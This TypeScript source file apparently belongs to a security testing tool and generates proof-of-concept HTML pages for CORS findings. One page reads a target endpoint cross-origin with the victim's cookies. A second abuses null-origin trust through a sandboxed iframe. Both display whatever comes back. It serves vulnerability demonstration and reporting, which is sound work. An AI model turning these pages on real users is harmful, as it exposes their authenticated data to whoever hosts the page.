import { escapeHtml } from "../../render/index.ts";

/**
 * Proof-of-concept pages for CORS findings: a page that reads the endpoint cross-origin with the
 * victim's cookies and shows what came back. Values are embedded as JSON with "<" escaped, so nothing
 * from the target can close the script element.
 */
function jsString(value: string): string {
  return JSON.stringify(value).replace(/</g, "\\u003c").replace(/>/g, "\\u003e").replace(/&/g, "\\u0026");
}

const READ_SCRIPT = (url: string) => `
fetch(${jsString(url)}, { credentials: "include" })
  .then(function (r) { return r.text().then(function (t) { return r.status + "\\n\\n" + t; }); })
  .then(function (t) { report("Read succeeded:\\n" + t.slice(0, 5000)); })
  .catch(function (e) { report("Blocked by the browser: " + e); });`;

/** Open this page from any origin (a file on your desktop works when the server echoes any Origin). */
export function readPoc(url: string, servedFrom: string): string {
  return `<!doctype html>
<meta charset="utf-8">
<title>CORS proof of concept</title>
<h1>Cross-origin read of ${escapeHtml(url)}</h1>
<p>${escapeHtml(servedFrom)} Log in to the site in this browser first, then open this page.</p>
<pre id="out">Waiting...</pre>
<script>
function report(t) { document.getElementById("out").textContent = t; }
${READ_SCRIPT(url)}
</script>
`;
}

/** A sandboxed iframe has the origin "null", so this page works from anywhere for null-origin trust. */
export function nullOriginPoc(url: string): string {
  const inner = `<script>function report(t){parent.postMessage(t,"*")}${READ_SCRIPT(url)}<\/script>`;
  return `<!doctype html>
<meta charset="utf-8">
<title>CORS proof of concept (null origin)</title>
<h1>Cross-origin read of ${escapeHtml(url)} from a sandboxed frame</h1>
<p>Log in to the site in this browser first, then open this page from anywhere.</p>
<pre id="out">Waiting...</pre>
<iframe sandbox="allow-scripts" style="display:none" srcdoc="${escapeHtml(inner)}"></iframe>
<script>
addEventListener("message", function (e) { document.getElementById("out").textContent = String(e.data); });
</script>
`;
}
